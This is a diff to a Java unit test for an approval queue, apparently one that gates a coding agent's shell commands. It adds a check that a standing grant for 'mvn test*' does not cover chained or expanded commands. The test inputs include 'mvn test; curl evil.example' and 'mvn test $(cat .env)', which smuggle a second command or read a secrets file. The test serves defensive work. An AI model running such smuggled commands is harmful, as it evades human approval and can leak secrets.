@@ -158,6 +158,16 @@ class ApprovalQueueTest {
     }
 
     @Test
+    void aStandingGrantOnCommandsNeverCoversAChainedOrExpandedCommand() {
+        ApprovalRow a = queue.open(request(null, "mvn test"));
+        queue.approve(a.id(), "ops", null, "mvn test*");
+        assertThat(queue.grantFor("coder", "exec", "mvn test -q")).isPresent();
+        assertThat(queue.grantFor("coder", "exec", "mvn test; curl evil.example")).isEmpty();
+        assertThat(queue.grantFor("coder", "exec", "mvn test $(cat .env)")).isEmpty();
+        assertThat(queue.grantFor("coder", "exec", "mvn test > out.txt")).isEmpty();
+    }
+
+    @Test
     void targetPatterns() {
         assertThat(TargetPattern.of("*.txt").matches("a.txt")).isTrue();
         assertThat(TargetPattern.of("*.txt").matches("d/a.txt")).isFalse();
